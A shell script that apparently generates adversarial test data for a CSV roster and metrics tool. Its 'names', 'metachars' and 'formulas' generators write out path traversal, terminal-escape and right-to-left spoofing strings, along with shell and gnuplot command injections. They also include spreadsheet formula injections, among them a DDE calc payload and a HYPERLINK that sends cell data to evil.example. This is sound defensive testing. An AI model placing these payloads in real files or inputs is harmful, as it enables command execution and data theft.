#!/bin/sh
# tests/adversarial/gen.sh — the hostile data of the suite, written to stdout.
#   gen.sh bigname ID BYTES          a roster row whose name is BYTES long
#   gen.sh bigcell PERIOD ID BYTES   a metrics row whose revenue is BYTES digits
#   gen.sh wide PERIOD ID N          a metrics row of N fields
#   gen.sh wideheader N              a metrics header of N columns, then a row
#   gen.sh emptylines FILE N         FILE with N empty lines after its 5th line
#   gen.sh names                     roster rows: / .. leading dots, control
#                                    characters, right-to-left marks, 10,000 characters
#   gen.sh metachars                 roster rows: gnuplot and shell metacharacters
#   gen.sh formulas                  roster rows: spreadsheet formulas
#   gen.sh sections N                N config sections
#   gen.sh deep N                    a [kpi.deep] formula nested N parentheses deep
set -u
rep() { # N, character: the character N times
    awk -v n="$1" -v c="$2" 'BEGIN { s = c; while (length(s) < n) s = s s; printf "%s", substr(s, 1, n) }'
}

case "$1" in
bigname)
    printf '%s,' "$2"
    rep "$3" a
    printf ',big@example.com,North,ae,M1,2021-01-01,en\n'
    ;;
bigcell)
    printf '%s,%s,' "$2" "$3"
    rep "$4" 7
    printf ',1,1,1,1,1,1,1,,,,,1,1\n'
    ;;
wide)
    printf '%s,%s' "$2" "$3"
    awk -v n="$4" 'BEGIN { for (i = 2; i < n; i++) printf ",1"; printf "\n" }'
    ;;
wideheader)
    awk -v n="$2" 'BEGIN {
        printf "period,rep_id,revenue,quota,collected,new_customers,visits,opportunities,won,lost,"
        printf "renewals_due,renewals_won,csat,nps,forecast,cycle_days"
        for (i = 16; i < n; i++) printf ",x%d", i
        printf "\n2026-04,R1,1,1,1,1,1,1,1,1,,,,,1,1\n" }'
    ;;
emptylines)
    awk -v n="$3" 'NR == 6 { for (i = 0; i < n; i++) print "" } { print }' "$2"
    ;;
names)
    long=$(rep 10000 L)
    team=$(rep 10000 T)
    cat <<EOF
../../etc/passwd,Slash / Dot ..,p@example.com,../../..,ae,M1,2021-01-01,en
.hidden,.Dot Person,h@example.com,.team,ae,M1,2021-01-01,en
CTL1,"Ctl$(printf '\001\002\033')[31mred
line",c@example.com,North,ae,M1,2021-01-01,en
RTL1,$(printf '\342\200\256')exe.evil$(printf '\342\200\254'),r@example.com,$(printf '\342\200\217')North,ae,M1,2021-01-01,en
LONG1,$long,l@example.com,$team,ae,M1,2021-01-01,en
EOF
    ;;
metachars)
    cat <<'EOF'
G1,"x""; system(""touch PWNED1""); """,g1@example.com,"`touch PWNED2`",ae,M1,2021-01-01,en
G2,$(touch PWNED3);|touch PWNED4,g2@example.com,"a""b; touch PWNED5",ae,M1,2021-01-01,en
G3,"'; !touch PWNED6; ' < /etc/passwd",g3@example.com,"|touch PWNED7",ae,M1,2021-01-01,en
G4,"@x{y} ^_~&\\ ""set output '/tmp/PWNED8'"" \n",g4@example.com,"load 'PWNED9'",ae,M1,2021-01-01,en
EOF
    ;;
formulas)
    cat <<'EOF'
F1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",f1@example.com,@SUM(1+1),ae,M1,2021-01-01,en
F2,"+cmd|' /C calc'!A0",f2@example.com,-2+3,ae,M1,2021-01-01,en
F3,-1+1,f3@example.com,=1+1,ae,M1,2021-01-01,en
F4,"	TAB=1",f4@example.com,"@team",ae,M1,2021-01-01,en
EOF
    ;;
sections)
    awk -v n="$2" 'BEGIN { for (i = 0; i < n; i++) printf "[band.b%d]\nmin = %d\n", i, i % 100 }'
    ;;
deep)
    printf '[kpi.deep]\nformula = '
    rep "$2" '('
    printf 'sum(revenue)'
    rep "$2" ')'
    printf '\n'
    ;;
*)
    echo "gen.sh: unknown generator '$1'" >&2
    exit 2
    ;;
esac
